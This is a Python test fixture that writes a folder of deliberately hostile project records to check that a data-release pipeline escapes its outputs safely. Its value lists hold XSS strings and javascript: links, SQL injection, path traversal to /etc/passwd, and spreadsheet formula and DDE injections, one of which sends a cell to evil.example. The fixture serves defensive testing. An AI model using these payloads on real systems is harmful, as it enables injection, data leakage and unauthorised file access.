"""A raw folder whose words try to break out of every file of a release."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

#: Texts that end, begin or mean something in one of the forms of a release.
WORDS = {
    "script": "</script><script>alert(1)</script>",
    "comment": "<!--<script> --> <!-- --!> ]]> <![CDATA[x]]>",
    "attribute": '" onmouseover="alert(1)" x=\'y\' `z`',
    "template": "{{ 7*7 }} {% raw %} ${x} #{y} %(z)s {0} $title ${title}",
    "controls": "a\x01b\x08c\x0bd\x1fe\x7ff\x85g\ufffeh\uffffi",
    "lines": "one\ntwo\r\nthree\rfour\u2028five\u2029six\tseven",
    "bidi": "\u202eevil\u202c \u2066hidden\u2069 \u200bzero\ufeff שלום",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "-2+3+cmd",
    "markdown": "[x](javascript:alert(1)) ![i](http://evil.example/i.png) | a | `b` **c** <b>d</b>",
    "yaml": "- a: b # c\n--- !!python/object:x &a *a |- > ' \" : {x}",
    "turtle": 'a """ b \\" c \\u0041 \\ \' <http://e> . @prefix x: <y> .',
    "sql": "'; DROP TABLE projects; -- \" \\ %s ? $1",
    "surrogate_pair": "𝒮mart 🌉 e\u0301 ẛ̣ ﬁ İ ı ß",
    "percent": "100% %2e%2e/ a?b#c&amp;d;e=f",
    "quotes": '"',
    "xlsx": "_x000D_ _x0001_ _x005F_",
    "number": "00123",
    "true": "TRUE",
    "null": "NULL",
    "date": "2024-01-01",
    "na": "NA",
    "dde": "DDE|x",
}
#: Codes of projects, which become addresses.
CODES = [
    "../../../etc/passwd", "..", ".", "/", "a/b/c", "A/", "%2e%2e%2f", "a%20b", "a b", "a?b#c",
    "Case-1", "CASE-1", "case-1", "index", "INDEX", "CON", "con", "NUL.txt", "COM1", "LV006",
    "x" * 400, "ā" * 300, "š", "s", "<img src=x onerror=alert(1)>", "A'B\"C", "A.", "A..B",
    "-rf", "~1", "A~2", "\\\\host\\x", "C:\\x", "http://evil.example/", "javascript:alert(1)",
    "🌉", "\u202eABC", "a\x01b", "LATEST", "A&B", "A;B", "A,B", "A\tB", "=1+1", "A_x000D_B",
]  # fmt: skip
PROGRAMMES = [
    "index", "con", "..", "A/B", "<b>Programme</b>", "Latvia–Lithuania \"2014\"", "NUTS", "x" * 300,
]  # fmt: skip

DESCRIPTION: dict[str, Any] = {
    "title": {
        "en": 'A <script>list</script> "of" ]]> | things & \u202e {{x}}',
        "lv": "Saraksts </title>", "lt": "'Sąrašas' `x` \\",
    },
    "publisher": {"en": "The \"Office\" <b> of: #1 \\ 'x' & Co ]]>", "lv": "Birojs"},
    "landing_page": "https://example.org/a'b\"<c> d?e=f&g=%zz#h",
    "licence": 'All "rights" <reserved> & more \\ """ \' # : {x}',
    "reuse": "allowed",
    "attribution": "Name: \"us\" <us@example.org> | ]]> \\ '''",
    "format": "json",
    "language": "en",
    "currency": "EUR",
    "amount_stage": "approved",
    "forms": {"dates": ["yyyy-mm-dd"]},
    "records": {
        "key": ["project_code"],
        "project": {
            "project_code": "Code", "title": "Title", "summary": "Summary",
            "programme_name": "Programme", "start_date": "Start", "end_date": "End",
            "website": "Web", "programme_priority": "Priority", "acronym": "Acronym",
        },
        "amounts": [{"column": "Amount", "measure": "total_budget"}],
        "partners": [
            {"role": "lead", "name": "Partner", "country": "Country", "region": "Region",
             "nuts_code": "Nuts", "town": "Town"}
        ],
        "locations": [{"region": "Region", "town": "Town"}],
        "classifications": [{"scheme": "priority_axis", "code": "Axis", "label": "Priority"}],
    },
}  # fmt: skip


def row(code: str, word: str, number: int = 1) -> dict[str, Any]:
    """A project all of whose words are one."""
    return {
        "Code": code, "Title": f"T{number} {word}", "Summary": f"S {word}", "Acronym": word,
        "Programme": PROGRAMMES[number % len(PROGRAMMES)], "Start": "2015-01-31",
        "End": "2016-12-31", "Web": f"https://example.org/{number}", "Priority": word,
        "Amount": "100.25", "Partner": f"P {word}", "Country": "LV", "Region": word,
        "Nuts": "LV006", "Town": word, "Axis": "1",
    }  # fmt: skip


def hostile_rows() -> list[dict[str, Any]]:
    """Rows with every word and every code, and amounts and dates at their ends."""
    rows = [row(f"W{n}", word, n) for n, word in enumerate(WORDS.values())]
    # Words that begin with a sign keep it as the first one.
    rows += [row(f"V{n}", word, n) | {"Title": word} for n, word in enumerate(WORDS.values())]
    rows += [row(code, "plain", n) for n, code in enumerate(CODES)]
    rows += [
        row("D1", "old") | {"Start": "0001-01-01", "End": "9999-12-31"},
        row("M1", "most") | {"Amount": "9999999999999999.99"},
        row("M2", "less") | {"Amount": "-9999999999999999.99"},
        row("M3", "none") | {"Amount": ""},
        row("E1", "x") | {"Title": "", "Summary": "", "Partner": "", "Programme": ""},
        row("L1", "long") | {"Title": "ā<" * 5_000, "Summary": "word & " * 150_000},
        row("H1", "x") | {"Web": "javascript:alert(1)"},
        row("H2", "x") | {"Web": "https://e.example/\" onclick='x' <b>"},
        row("H3", "x") | {"Web": "data:text/html,<script>alert(1)</script>"},
        row("N1", "x") | {"Nuts": "LV999</text>", "Country": "Latvia"},
        row("N2", "x") | {"Nuts": "../..", "Country": "LV"},
    ]
    return rows


def write_source(raw: Path, name: str, rows: list[dict[str, Any]], **changes: Any) -> None:
    """A source with one snapshot, in JSON, which can say everything."""
    folder = raw / name / "2026-01-31"
    folder.mkdir(parents=True)
    told = {"id": name, **DESCRIPTION, **changes}
    # Every JSON document is YAML, too.
    text = json.dumps(told, ensure_ascii=True)
    (raw / name / "source.yaml").write_text(text, encoding="utf-8")
    (folder / "list.json").write_text(json.dumps(rows, ensure_ascii=True), encoding="utf-8")
